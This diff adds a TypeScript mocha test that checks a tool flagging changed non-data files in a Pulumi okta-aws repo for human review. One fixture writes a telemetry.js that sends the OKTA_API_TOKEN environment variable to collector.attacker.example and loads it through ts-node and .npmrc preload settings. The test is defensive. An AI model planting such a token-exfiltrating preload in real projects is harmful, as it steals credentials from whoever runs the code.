@@ -1,0 +1,115 @@
+// The access diff's list of code: every changed path that the data allow-list (tools/plan/dataPaths.ts)
+// does not name is code and needs a human review, whatever its name or folder.
+import { expect } from "chai";
+import { execFileSync } from "child_process";
+import * as fs from "fs";
+import * as os from "os";
+import * as path from "path";
+import { codeChanges } from "../tools/plan/atRevision";
+
+describe("the paths that count as code in the access diff", () => {
+    let repo: string;
+    const git = (...args: string[]) => execFileSync("git", ["-C", repo, ...args], { encoding: "utf8" }).trim();
+    const write = (files: Record<string, string>) => {
+        for (const [file, text] of Object.entries(files)) {
+            fs.mkdirSync(path.dirname(path.join(repo, file)), { recursive: true });
+            fs.writeFileSync(path.join(repo, file), text);
+        }
+    };
+    /** Commits `files` on top of a base holding `baseFiles`, and returns the code paths between the two. */
+    const changesOf = (baseFiles: Record<string, string>, files: Record<string, string>) => {
+        write(baseFiles);
+        git("add", "-A");
+        git("commit", "-qm", "base");
+        write(files);
+        git("add", "-A");
+        git("commit", "-qm", "head");
+        return codeChanges(repo, git("rev-parse", "HEAD~1"), git("rev-parse", "HEAD"));
+    };
+    const project = { "Pulumi.yaml": "name: okta-aws\nruntime: nodejs\n", "Pulumi.retail.yaml": "config: {}\n", "index.ts": "" };
+
+    beforeEach(() => {
+        repo = fs.mkdtempSync(path.join(os.tmpdir(), "okta-aws-data-paths-"));
+        git("init", "-q", "-b", "main");
+        git("config", "user.name", "test");
+        git("config", "user.email", "test@example.com");
+    });
+    afterEach(() => fs.rmSync(repo, { recursive: true, force: true }));
+
+    it("calls a preloaded script and what preloads it code: ts-node's require in tsconfig, node-options in .npmrc", () => {
+        const changes = changesOf(
+            { ...project, "tsconfig.pulumi.json": '{ "compilerOptions": {} }\n' },
+            {
+                "telemetry.js": "require('https').get('https://collector.attacker.example/' + process.env.OKTA_API_TOKEN)\n",
+                "tsconfig.pulumi.json": '{ "compilerOptions": {}, "ts-node": { "require": ["./telemetry.js"] } }\n',
+                ".npmrc": "node-options=--require=./telemetry.js\n",
+            },
+        );
+        expect(changes).to.deep.equal([".npmrc", "telemetry.js", "tsconfig.pulumi.json"]);
+    });
+
+    it("calls stack files, the policy documents in policies/, existing.json and Markdown data", () => {
+        const changes = changesOf(project, {
+            "Pulumi.retail.yaml": "config: { aws:region: us-east-1 }\n",
+            "Pulumi.data.yaml": "config: {}\n",
+            "policies/s3-read.json": "{}\n",
+            "policies/team/deploy.json": "{}\n",
+            "existing.json": "{}\n",
+            "README.md": "# okta-aws\n",
+            "docs/topics.md": "# Topics\n",
+        });
+        expect(changes).to.deep.equal([]);
+    });
+
+    it("calls everything else code: dotfiles, tool settings, the lock file, workflows, Pulumi.yaml, other files in policies/", () => {
+        const changes = changesOf(project, {
+            ".mocharc.json": "{}\n",
+            ".nvmrc": "20\n",
+            ".gitattributes": "*.json filter=evil\n",
+            "package-lock.json": "{}\n",
+            ".github/workflows/deploy.yml": "on: push\n",
+            "Pulumi.yaml": "name: okta-aws\nruntime: { name: nodejs, options: { nodeargs: --require=./x.js } }\n",
+            "policies/helper.js": "\n",
+            "policies/notes.yaml": "\n",
+            "docs/build.ts": "\n",
+            "scripts/setup.sh": "\n",
+        });
+        expect(changes).to.deep.equal([
+            ".gitattributes",
+            ".github/workflows/deploy.yml",
+            ".mocharc.json",
+            ".nvmrc",
+            "Pulumi.yaml",
+            "docs/build.ts",
+            "package-lock.json",
+            "policies/helper.js",
+            "policies/notes.yaml",
+            "scripts/setup.sh",
+        ]);
+    });
+
+    it("reads the stack folder from each revision's Pulumi.yaml: files Pulumi would not read there are code", () => {
+        const changes = changesOf(
+            {
+                ...project,
+                "Pulumi.yaml": "name: okta-aws\nruntime: nodejs\nstackConfigDir: stacks\n",
+                "stacks/Pulumi.retail.yaml": "config: {}\n",
+            },
+            {
+                "stacks/Pulumi.retail.yaml": "config: { aws:region: us-east-1 }\n",
+                "stacks/policies/s3-read.json": "{}\n",
+                "policies/s3-read.json": "{}\n",
+                "Pulumi.sales.yaml": "config: {}\n",
+            },
+        );
+        expect(changes).to.deep.equal(["Pulumi.sales.yaml", "policies/s3-read.json"]);
+    });
+
+    it("judges the working tree's changes and untracked files alike", () => {
+        write(project);
+        git("add", "-A");
+        git("commit", "-qm", "base");
+        write({ "Pulumi.retail.yaml": "config: { aws:region: us-east-1 }\n", "preload.cjs": "\n", ".npmrc": "x=1\n" });
+        expect(codeChanges(repo, git("rev-parse", "HEAD"), undefined)).to.deep.equal([".npmrc", "preload.cjs"]);
+    });
+});
